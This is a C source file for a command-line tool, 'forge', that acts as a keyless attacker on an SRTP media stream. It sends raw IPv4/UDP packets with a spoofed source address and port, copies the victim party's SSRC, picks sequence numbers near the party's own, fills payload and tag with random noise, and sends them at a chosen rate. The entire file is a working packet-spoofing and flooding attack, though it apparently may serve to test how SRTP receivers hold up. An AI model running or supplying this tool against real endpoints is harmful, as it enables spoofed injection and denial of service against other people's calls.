/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * An attacker without the key who is on the path: sends what looks like one
 * party's SRTP, from that party's address and port, with its SSRC and sequence
 * numbers near its own, but with noise for payload and tag.
 *
 *   forge TO PORT FROM PORT SSRC SEQ PACKETS_A_SECOND SECONDS
 *
 * Addresses are IPv4, numbers decimal. Ends with the line "sent N in S".
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BURST 64
#define RTP_HEADER 12
#define SRTP (RTP_HEADER + 160 + 10) /* G.711 and a tag of 80 bits */
#define WINDOW 1000u                 /* sequence numbers ahead of the party's */

struct packet {
	struct iphdr ip;
	struct udphdr udp;
	uint8_t rtp[SRTP];
} __attribute__((packed));

struct forge {
	int fd;
	struct sockaddr_in to;
	struct packet model;
	uint32_t ssrc;
	uint16_t seq;
	uint64_t noise;
	uint64_t sent;
};

static double
now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* xorshift64: it has to differ, not to be secret. */
static uint64_t
noise(struct forge *f)
{
	f->noise ^= f->noise << 13;
	f->noise ^= f->noise >> 7;
	f->noise ^= f->noise << 17;
	return f->noise;
}

static void
write_packet(struct forge *f, struct packet *out)
{
	const uint64_t chance = noise(f);
	const uint16_t seq = htons((uint16_t)(f->seq + chance % WINDOW));
	const uint32_t ssrc = htonl(f->ssrc);

	*out = f->model;
	out->rtp[0] = 0x80;
	out->rtp[1] = 0;
	memcpy(out->rtp + 2, &seq, sizeof seq);
	memcpy(out->rtp + 4, &chance, 4);
	memcpy(out->rtp + 8, &ssrc, sizeof ssrc);
	for (unsigned int i = RTP_HEADER; i + 8 <= SRTP; i += 8) {
		const uint64_t word = noise(f);

		memcpy(out->rtp + i, &word, 8);
	}
}

static void
send_burst(struct forge *f)
{
	static struct packet packet[BURST];
	static struct iovec part[BURST];
	static struct mmsghdr message[BURST];
	int done;

	for (unsigned int i = 0; i < BURST; i++) {
		write_packet(f, &packet[i]);
		part[i] = (struct iovec){ &packet[i], sizeof packet[i] };
		message[i].msg_hdr = (struct msghdr){
			.msg_name = &f->to,
			.msg_namelen = sizeof f->to,
			.msg_iov = &part[i],
			.msg_iovlen = 1,
		};
	}
	done = sendmmsg(f->fd, message, BURST, 0);
	if (done > 0)
		f->sent += (uint64_t)done;
}

static int
prepare(struct forge *f, char **argv)
{
	struct packet *p = &f->model;
	struct in_addr from;

	if (inet_pton(AF_INET, argv[1], &f->to.sin_addr) != 1 ||
		inet_pton(AF_INET, argv[3], &from) != 1)
		return -1;
	f->to.sin_family = AF_INET;
	p->ip.version = 4;
	p->ip.ihl = sizeof p->ip / 4;
	p->ip.ttl = 64;
	p->ip.protocol = IPPROTO_UDP;
	p->ip.saddr = from.s_addr;
	p->ip.daddr = f->to.sin_addr.s_addr;
	p->udp.source = htons((uint16_t)atoi(argv[4]));
	p->udp.dest = htons((uint16_t)atoi(argv[2]));
	p->udp.len = htons(sizeof p->udp + SRTP); /* without a checksum */
	f->ssrc = (uint32_t)strtoul(argv[5], NULL, 10);
	f->seq = (uint16_t)atoi(argv[6]);
	f->noise = 0x9e3779b97f4a7c15u;
	/* The kernel completes length and checksum of the IP header. */
	f->fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	return f->fd < 0 ? -1 : 0;
}

int
main(int argc, char **argv)
{
	struct forge f = { 0 };
	double start, at, rate, seconds;

	if (argc != 9 || prepare(&f, argv) < 0) {
		fprintf(stderr,
			"usage: forge TO PORT FROM PORT SSRC SEQ "
			"PACKETS_A_SECOND SECONDS\n");
		return 2;
	}
	rate = atof(argv[7]);
	seconds = atof(argv[8]);
	start = at = now();
	while (at < start + seconds) {
		if ((double)f.sent <= (at - start) * rate)
			send_burst(&f);
		else
			usleep(100);
		at = now();
	}
	printf("sent %llu in %.3f\n", (unsigned long long)f.sent, at - start);
	close(f.fd);
	return 0;
}
